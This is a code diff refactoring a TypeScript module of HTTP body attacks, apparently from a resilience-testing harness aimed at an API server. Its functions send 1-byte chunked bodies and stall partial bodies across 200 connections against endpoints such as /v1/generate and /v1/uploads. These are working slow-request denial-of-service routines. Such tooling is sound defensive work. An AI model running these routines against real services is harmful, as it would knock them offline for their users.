@@ -1,5 +1,5 @@
-import type { Attack, Target } from '../world/attack.ts'
-import { head } from '../world/connections.ts'
+import type { Attack, Target } from '../attack.ts'
+import { head } from '../connections.ts'
 
 const megabyte = 1_000_000
 const callbackPath = '/v1/callbacks/a/b/c'
@@ -9,30 +9,21 @@ const chunked = { 'transfer-encoding': 'chunked' }
 const longPrompt = (bytes: number) => '{"model":"anything","prompt":"'.padEnd(bytes, 'x')
 
 /** Sends four bodies of 1 MB in chunks of 1 byte. */
-async function crumble({ connections, over, isOver }: Target, start: string): Promise<void> {
+async function crumble({ onEach, isOver }: Target, start: string): Promise<void> {
   const [chunks, count] = ['1\r\nx\r\n'.repeat(10_000), 100]
-  const opened = await connections.openMany(4)
-  const sending = opened.map(async (connection) => {
+  await onEach(4, async (connection) => {
     await connection.send(start)
     for (let sent = 0; sent < count && !isOver(); sent++) if (!(await connection.send(chunks))) return
     await connection.send('0\r\n\r\n')
     await connection.answer()
   })
-  await Promise.race([Promise.all(sending), over])
 }
 
-/** Opens `count` connections and sends on each the first part of a body, but never the rest. */
-async function stall(
-  { connections, over, isOver }: Target,
-  count: number,
-  start: string,
-  part: string,
-): Promise<void> {
-  const opened = await connections.openMany(count)
-  const sending = opened.map(async (connection) => {
+/** Sends on each of 200 connections the first part of a body, but never the rest. */
+async function stall({ onEach, over, isOver }: Target, start: string, part: string): Promise<void> {
+  await onEach(200, async (connection) => {
     if (!isOver() && (await connection.send(start))) await connection.send(part)
   })
-  await Promise.race([Promise.all(sending), over])
   await over
 }
 
@@ -67,7 +58,6 @@ export const bodyAttacks = {
     run: (target) =>
       stall(
         target,
-        200,
         head('POST', callbackPath, { 'content-length': megabyte }, noKey),
         longPrompt(0.95 * megabyte),
       ),
@@ -79,7 +69,6 @@ export const bodyAttacks = {
     run: (target) =>
       stall(
         target,
-        200,
         head('POST', '/v1/generate', { 'content-length': 10 * megabyte }),
         longPrompt(4 * megabyte),
       ),
@@ -91,7 +80,6 @@ export const bodyAttacks = {
     run: (target) =>
       stall(
         target,
-        200,
         head('POST', '/v1/uploads', { 'content-length': 10 * megabyte }),
         '\x89PNG\r\n\x1a\n'.padEnd(2 * megabyte, 'x'),
       ),
@@ -106,7 +94,6 @@ export const bodyAttacks = {
       const chunkLength = (10 * megabyte).toString(16)
       return stall(
         target,
-        200,
         `${head('POST', '/v1/generate', chunked)}${chunkLength}\r\n`,
         longPrompt(4 * megabyte),
       )
